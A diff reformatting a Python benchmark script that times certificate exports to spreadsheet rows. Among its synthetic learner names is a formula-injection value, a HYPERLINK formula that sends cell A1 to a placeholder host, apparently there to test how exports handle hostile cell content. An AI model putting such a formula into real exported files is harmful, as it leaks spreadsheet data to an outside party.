@@ -7,6 +7,7 @@ the child's starting RSS) is its own; a run at a tenth of the rows shows whether
 Wall time (p50/p95 over the runs) and CPU time are both reported: on a shared machine the CPU-time
 ratio is the steadier of the two.
 """
+
 from __future__ import annotations
 
 import argparse
@@ -39,15 +40,27 @@ def certificates(rows: int) -> Iterator:
     track = TrackData(1, "cloud-ops", "Cloud Operations Associate", "", 3, 7, "", 40.0)
     school = SchoolData(1, "north", "North School", "", "", "FR", "")
     issued = dt.datetime(2026, 6, 30, 9, 15, tzinfo=dt.UTC)
-    names = ["Léa Benali", "=HYPERLINK(\"http://x.example/?\"&A1)", "ليلى حداد", "John Smith", "-1+1 Test"]
+    names = ["Léa Benali", '=HYPERLINK("http://x.example/?"&A1)', "ليلى حداد", "John Smith", "-1+1 Test"]
     for n in range(rows):
         yield CertificateData(
-            id=n, number=f"KF-2026-{n:06d}", status="active", issued_at=issued, valid_from=issued.date(),
-            valid_until=dt.date(2028, 6, 30), learner=LearnerData(n, f"user{n}", f"user{n}@example.com",
-                                                                  names[n % 5], "", "en"),
-            track=track, school=school, cohort_id=1, cohort_name="North 2026", cohort_slug="n-2026",
-            hours_total=16 + (n % 40) / 4, hours_by_category={"ethics": 3.0}, hours_by_source={}, results=(),
-            employee_id=f"E-{n}", evidence={},
+            id=n,
+            number=f"KF-2026-{n:06d}",
+            status="active",
+            issued_at=issued,
+            valid_from=issued.date(),
+            valid_until=dt.date(2028, 6, 30),
+            learner=LearnerData(n, f"user{n}", f"user{n}@example.com", names[n % 5], "", "en"),
+            track=track,
+            school=school,
+            cohort_id=1,
+            cohort_name="North 2026",
+            cohort_slug="n-2026",
+            hours_total=16 + (n % 40) / 4,
+            hours_by_category={"ethics": 3.0},
+            hours_by_source={},
+            results=(),
+            employee_id=f"E-{n}",
+            evidence={},
         )
 
 
@@ -55,11 +68,33 @@ def _baseline_row(cert, verify: str) -> list:
     """The Kafaat preset's values by plain attribute access: what a hand-written exporter would do."""
     hours = round(cert.hours_total, 2)
     return [
-        cert.employee_id, cert.learner.email, cert.learner.full_name, cert.number, cert.track.title, cert.track.slug,
-        cert.track.version, "Kafaat", cert.school.name, cert.school.slug, cert.cohort_slug, cert.cohort_name,
-        "Active", cert.valid_from.isoformat(), cert.issued_at.isoformat(), cert.issued_at.date().isoformat(),
-        cert.valid_until.isoformat() if cert.valid_until else "", "Pass", hours, hours, max(0.1, round(hours / 10, 1)),
-        3.0, "", verify + cert.number + "/", "UTC", cert.issued_at.isoformat(), "Kafaat",
+        cert.employee_id,
+        cert.learner.email,
+        cert.learner.full_name,
+        cert.number,
+        cert.track.title,
+        cert.track.slug,
+        cert.track.version,
+        "Kafaat",
+        cert.school.name,
+        cert.school.slug,
+        cert.cohort_slug,
+        cert.cohort_name,
+        "Active",
+        cert.valid_from.isoformat(),
+        cert.issued_at.isoformat(),
+        cert.issued_at.date().isoformat(),
+        cert.valid_until.isoformat() if cert.valid_until else "",
+        "Pass",
+        hours,
+        hours,
+        max(0.1, round(hours / 10, 1)),
+        3.0,
+        "",
+        verify + cert.number + "/",
+        "UTC",
+        cert.issued_at.isoformat(),
+        "Kafaat",
     ]
 
 
@@ -163,8 +198,22 @@ def main(argv: list[str]) -> int:
             }
             table.append(row)
             figures[case] = row | {"samples": runs}
-    columns = ["case", "rows", "p50_s", "p95_s", "x_time", "cpu_p50_s", "x_cpu", "rows_per_s", "peak_mib", "x_peak",
-               f"peak_mib_{args.rows // 10}_rows", "mib_out"]
-    report.print_table(f"Exports: {args.rows} certificates, {args.repeat} runs each (x_ = ratio to the baseline)", table, columns)
+    columns = [
+        "case",
+        "rows",
+        "p50_s",
+        "p95_s",
+        "x_time",
+        "cpu_p50_s",
+        "x_cpu",
+        "rows_per_s",
+        "peak_mib",
+        "x_peak",
+        f"peak_mib_{args.rows // 10}_rows",
+        "mib_out",
+    ]
+    report.print_table(
+        f"Exports: {args.rows} certificates, {args.repeat} runs each (x_ = ratio to the baseline)", table, columns
+    )
     report.save("exports", figures)
     return 0
